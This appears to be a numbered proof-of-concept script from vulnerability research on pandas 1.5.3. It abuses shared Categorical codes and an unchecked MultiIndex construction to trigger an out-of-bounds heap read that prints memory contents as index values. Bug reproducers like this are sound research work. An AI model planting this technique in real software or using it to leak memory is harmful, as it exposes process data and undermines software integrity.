# source: pandas 1.5.3 shared Categorical codes (as 001) + indexes/multi.py MultiIndex.from_arrays (factorize_from_iterable keeps a Categorical's codes, verify_integrity=False) and MultiIndex._values (take_nd unchecked)
# family: shared codes / separate categories metadata, carried into a MultiIndex whose codes are past its level
# goal: out-of-bounds heap read: MultiIndex.to_flat_index() prints heap words as level values
import numpy as np
import pandas as pd

n = 16
cat0 = pd.Categorical([np.nan] * n, categories=pd.Index([], dtype="int64"))
ci = pd.CategoricalIndex(cat0, categories=list(range(126)))   # shares cat0's int8 codes
v = ci.values
for i in range(n):
    v[i] = 125 - i                                             # codes past cat0's 0 categories
print("codes:", list(cat0.codes))
mi = pd.MultiIndex.from_arrays([cat0, list(range(n))])
print("MultiIndex codes past its level:", list(mi.codes[0]), len(mi.levels[0]))
print(mi.to_flat_index())
